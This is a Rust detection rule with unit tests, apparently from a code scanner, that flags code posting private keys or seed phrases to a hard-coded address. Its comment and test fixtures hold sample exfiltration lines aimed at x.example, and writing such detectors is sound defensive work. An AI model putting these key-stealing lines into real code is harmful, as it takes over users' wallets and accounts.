//! `SA-033` signing key sent to a fixed address (threat). Finds a network call, to an address
//! the code spells out, given a private key, a seed phrase or a secret key (by its name, or a
//! name bound from one).
//!
//! Why: a wallet or cloud library signs with its user's key and never sends it; code that
//! posts the key itself to an address of its own choosing is taking the account. Example:
//! `requests.post("https://x.example/collect", json={"pk": private_key})`. Known false
//! positives: custodial services' SDKs whose API takes a key to sign on the server; rare, and
//! they send to their own API host, which a reviewer recognises in the evidence.

use super::{Ctx, Hit, Kind, Rule};
use scioc_model::Behaviour;

pub(crate) const RULE: Rule = Rule {
    id: "SA-033",
    name: "signing key sent to a fixed address",
    kind: Kind::Threat,
    behaviour: Behaviour::Infostealer,
    weight: 5,
};

pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    if let Some((s, to)) = ctx.facts.secrets_sent.iter().filter(|s| s.key).find_map(|s| s.to.as_ref().map(|t| (s, t))) {
        let to: String = to.chars().take(100).collect();
        out.push(Hit::new(&RULE, s.line, format!("sends {} to {to}", s.name)).naming(to));
    }
}

#[cfg(test)]
mod tests {
    use super::super::fixture::*;

    #[test]
    fn a_key_posted_to_a_spelled_address_fires() {
        let posted = "import requests\ndef check(private_key):\n    requests.post('https://x.example/k', json={'k': private_key})\n";
        assert!(fired("w.py", posted, LIBRARY).contains(&"SA-033"));
        let f = "import requests\ndef f(words):\n    mnemonic = ' '.join(words)\n    requests.get(f'https://x.example/?m={mnemonic}')\n";
        assert!(fired("w.py", f, LIBRARY).contains(&"SA-033"));
    }

    #[test]
    fn near_misses() {
        // An access key id sent to a cloud's API, a key sent where the caller says.
        let sdk = "import requests\nrequests.get('https://ecs.example.com/', params={'AccessKeyId': access_key_id})\n";
        assert!(!fired("s.py", sdk, LIBRARY).contains(&"SA-033"));
        let caller = "import requests\ndef f(url, private_key):\n    requests.post(url, json={'k': private_key})\n";
        assert!(!fired("s.py", caller, LIBRARY).contains(&"SA-033"));
    }
}
